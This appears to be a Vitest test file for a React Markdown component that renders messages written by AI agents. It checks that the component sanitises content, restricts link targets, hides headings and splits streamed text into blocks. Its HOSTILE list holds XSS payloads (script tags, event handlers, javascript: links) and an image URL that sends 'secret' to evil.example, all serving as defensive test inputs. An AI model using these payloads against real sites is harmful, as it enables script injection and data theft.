/** Nothing an agent writes can run, load from elsewhere, or style the page. Demanded by: SEC, TEXT. */
import { cleanup } from '@testing-library/react';
import { afterEach, expect, test } from 'vitest';
import { renderPart } from '../../testing/setup';
import { splitBlocks } from './blocks';
import { targetOf } from './links';
import { Markdown } from './Markdown';

afterEach(cleanup);

const HOSTILE = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body { display: none }</style>',
  '<svg onload="window.hacked = 1"></svg>',
  '<a href="javascript:alert(1)" style="position:fixed;inset:0">x</a>',
  '<form action="https://evil.example"><input name=p></form>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](vbscript:x)',
  '[e](//evil.example/x) [f](file:///etc/passwd) [g](blob:x)',
  '![p](https://evil.example/?q=secret) ![q](//evil.example/x.png) ![r](data:image/svg+xml,x)',
  '<math><mtext></mtext><script>1</script></math>',
  '[x]: javascript:alert(1)\n\n[x]',
];

test.each(HOSTILE)('%s is inert', async (text) => {
  const { container } = await renderPart(<Markdown text={text} agent="iris" />);
  const forbidden =
    'script, iframe, style, form, link, meta, object, embed, img, svg[onload], [style*=fixed], [onerror], [onload]';
  expect(container.querySelectorAll(forbidden)).toHaveLength(0);
  for (const link of container.querySelectorAll('a')) {
    const href = link.getAttribute('href') ?? '';
    expect(href).toMatch(/^(https:|mailto:|\/o\/acme\/files\?)/);
    if (href.startsWith('https:')) expect(link.rel).toContain('noopener');
  }
});

test('an image from elsewhere is named, not loaded', async () => {
  const { container } = await renderPart(<Markdown text="![chart](https://evil.example/c.png)" />);
  expect(container.querySelector('img')).toBeNull();
  expect(container.textContent).toContain('chart');
  expect(container.textContent).toContain('evil.example');
});

test('links lead to other sites, into the workspace of the author, or nowhere', () => {
  expect(targetOf('https://a.example/x')).toMatchObject({ kind: 'web', host: 'a.example' });
  expect(targetOf('./site/a%20b.html#top')).toEqual({ kind: 'file', path: 'site/a b.html' });
  for (const nowhere of ['../secret', '/../x', 'javascript:x', '#top', '//evil', '', undefined]) {
    expect(targetOf(nowhere)).toBeNull();
  }
});

test('headings in a message do not enter the outline of the page', async () => {
  const { container } = await renderPart(<Markdown text={'# Big\n\n## Small'} />);
  expect(container.querySelectorAll('h1, h2, h3, h4, h5, h6')).toHaveLength(0);
  expect(container.textContent).toContain('Big');
});

test('only names that were mentioned are marked, and not in code', async () => {
  const text = '@iris and @juno-2 see `@iris` but not @kai.';
  const { container } = await renderPart(<Markdown text={text} mentions={['iris', 'juno-2']} />);
  const marks = [...container.querySelectorAll('span')].map((one) => one.textContent);
  expect(marks).toEqual(['@iris', '@juno-2']);
});

test('tables, task lists and code come out as such', async () => {
  const text = '| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```js\nlet a = 1;\n```';
  const { container } = await renderPart(<Markdown text={text} />);
  expect(container.querySelectorAll('table td')).toHaveLength(2);
  expect(container.querySelector('input[type=checkbox]')).toHaveProperty('disabled', true);
  expect(container.querySelector('pre code')?.textContent).toBe('let a = 1;');
});

test('a growing text is cut into blocks that add up to it, and old blocks stay the same', () => {
  const text = '# One\n\ntwo\n\n- a\n- b\n\n```\ncode\n```\n\nthe end';
  let split = splitBlocks('');
  for (let length = 1; length <= text.length; length += 1) {
    split = splitBlocks(text.slice(0, length), split);
    expect(split.blocks.join('')).toBe(text.slice(0, length));
  }
  const more = splitBlocks(`${text} is near`, split);
  expect(more.blocks.slice(0, -2)).toEqual(split.blocks.slice(0, -2));
  expect(splitBlocks(text, split)).toBe(split);
});

test('text that the lexer would change is kept whole', () => {
  for (const text of ['a\r\nb\r\n\r\nc', '\tcode\n\ttoo', 'a\u0000b', '']) {
    expect(splitBlocks(text).blocks.join('')).toBe(text);
  }
});
